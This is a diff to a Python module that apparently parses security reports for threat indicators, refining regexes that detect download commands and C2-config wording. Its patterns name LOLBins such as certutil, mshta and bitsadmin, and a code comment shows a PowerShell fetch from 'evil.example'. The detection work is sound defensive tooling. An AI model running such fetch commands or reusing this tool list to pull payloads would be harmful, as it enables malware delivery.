@@ -12,6 +12,7 @@ from typing import Final, Literal, NamedTuple
 
 from ingest.indicators.cutting import cuts
 from ingest.indicators.document import Document, Place
+from ingest.indicators.gated import Gated
 from ingest.indicators.sentences import line_span
 from ingest.indicators.vocabulary import pieces, words
 from intel.refanging import AT, MARKS, PlainText
@@ -40,6 +41,8 @@ _RANK_OF: Final[Mapping[str, int]] = {
 _PIECES_OF_HEADINGS: Final[tuple[tuple[Section, re.Pattern[str]], ...]] = tuple(
     (section, re.compile(pieces("headings", "pieces", section))) for section in ("references", "indicators", "other")
 )
+_LIKE_A_HEADING: Final = re.compile(r"(?m)^(?:#{1,6} |={1,6} |\*\*[^\W\d_]|[^\W\d_][^\n.,;|\d]{2,60}[:\uff1a]?$)")
+_LONGEST_SECTION: Final = 4_000
 _LONGEST_HEADING_WITHOUT_BLANKS: Final = 24
 _FIRST_OF_TWO: Final = frozenset(first for first, _, second in (words.partition("_") for words in _RANK_OF) if second)
 _VERBS_TOO: Final = ("contact", "contacts")
@@ -68,12 +71,14 @@ _REPORTS_TO: Final = re.compile(
 )  # of programs
 _FOOTNOTE: Final = re.compile(r"\s*(?:\[\d{1,3}\]|\^|\u21a9):?\s*")
 _WORDING_REACH: Final = 100
-_FETCHING: Final = re.compile(
-    r"\b(?:(?i:curl|wget|certutil|bitsadmin|mshta|regsvr32|msiexec|iwr|irm|invoke-webrequest|invoke-restmethod"
-    r"|start-bitstransfer|tftp|ftpget)(?:\.exe)?[ \t]+(?:[^\s|;]{1,40}[ \t]+){0,6}[\"'(<`]{0,2}"
-    r"|(?i:download(?:string|file|data)|urldownloadtofile|urlopen|urlretrieve|requests\.(?:get|post))[aw]?\s?\([\"'\s]{0,3}"
-    r"|(?:GET|POST|PUT|CONNECT)[ \t]+[\"'`]?)\Z"
+_FETCHING: Final = Gated(
+    re.compile(
+        r"\b(?:(?i:curl|wget|certutil|bitsadmin|mshta|regsvr32|msiexec|iwr|irm|invoke-webrequest|invoke-restmethod"
+        r"|start-bitstransfer|tftp|ftpget)(?:\.exe)?[ \t]+(?:[^\s|;]{1,40}[ \t]+){0,6}[\"'(<`]{0,2}"
+        r"|(?i:download(?:string|file|data)|urldownloadtofile|urlopen|urlretrieve|requests\.(?:get|post))[aw]?\s?\([\"'\s]{0,3})\Z"
+    )
 )
+_REQUESTING: Final = re.compile(r"\b(?:GET|POST|PUT|CONNECT)[ \t]+[\"'`]?\Z")
 # `$u='https://evil.example/x';$b=$w.DownloadData($u)`
 _VARIABLE: Final = re.compile(r"[$\w]\w{0,20}\s?=\s?[\"']\Z")
 _FETCHES: Final = re.compile(
@@ -104,10 +109,12 @@ _INVITATION: Final = re.compile(
 )
 _DEAD_DROP: Final = re.compile(r"(?i)\bdead[ -]?drops?\b(?:[^.!?\n]|[.](?=\S)){0,160}\Z")
 # `reads the address of its server from`
-_READ_FOR_ORDERS: Final = re.compile(
-    r"(?i)\b(?:reads?|retriev\w{1,4}|obtain\w{0,3}|gets?|fetch\w{0,3}|extract\w{0,3}|pars\w{1,3}"
-    r"|resolv\w{1,3}|takes?|learns?|pulls?|hid\w{1,3}|stores?|keeps?|finds?)\b[^.!?\n]{0,40}"
-    r"\b(?:c2s?|servers?|config\w{0,8}|address(?:es)?|orders|commands|instructions)\b(?:[^.!?\n]|[.](?=\S)){0,160}\Z"
+_READ_FOR_ORDERS: Final = Gated(
+    re.compile(
+        r"(?i)\b(?:reads?|retriev\w{1,4}|obtain\w{0,3}|gets?|fetch\w{0,3}|extract\w{0,3}|pars\w{1,3}"
+        r"|resolv\w{1,3}|takes?|learns?|pulls?|hid\w{1,3}|stores?|keeps?|finds?)\b[^.!?\n]{0,40}"
+        r"\b(?:c2s?|servers?|config\w{0,8}|address(?:es)?|orders|commands|instructions)\b(?:[^.!?\n]|[.](?=\S)){0,160}\Z"
+    )
 )
 _IS_A_MAILBOX: Final = re.compile(rf"[\s>|*\u2022-]{{0,6}}[^\s@]{{1,64}}(?:@|{AT}++)[^\s@]{{4,100}}\s*")
 _IDEOGRAPH: Final = re.compile(r"[\u3040-\u30ff\u3400-\u9fff]")
@@ -266,6 +273,15 @@ class TextContext:
         index = bisect_right(starts, position) - 1
         return sections[index] if index >= 0 else ""
 
+    def heading(self, position: int) -> str:
+        """Return the telling heading above a position, or nothing where another line like a heading stands between."""
+        starts, _ = self._headings
+        index = bisect_right(starts, position) - 1
+        if index < 0 or position - starts[index] > _LONGEST_SECTION:
+            return ""
+        heading, _, body = self.text[starts[index] : position].partition("\n")
+        return "" if _LIKE_A_HEADING.search(body) else heading
+
     def refers(self, line: Line, start: int) -> bool:
         """Tell whether the words before a candidate, in its sentence, point the reader somewhere."""
         before = self.text[max(line.start, start - 60) : start].rpartition(". ")[2]
@@ -285,9 +301,10 @@ class TextContext:
     def is_fetched(self, line: Line, start: int) -> bool:
         """Tell whether a command or a request that the text shows fetches what stands here."""
         before = max(line.start, start - _WORDING_REACH)
-        if _FETCHING.search(self.text, before, start):
+        if _REQUESTING.search(self.text, before, start) or _FETCHING.search(self.text, before, start):
             return True
-        variable = _VARIABLE.search(self.text, before, start)
+        is_quoted = self.text[start - 1 : start] in ("'", '"')
+        variable = _VARIABLE.search(self.text, before, start) if is_quoted else None
         return variable is not None and _FETCHES.search(self.text, start, line.end) is not None
 
     def accuses(self, line: Line, start: int, end: int) -> bool:
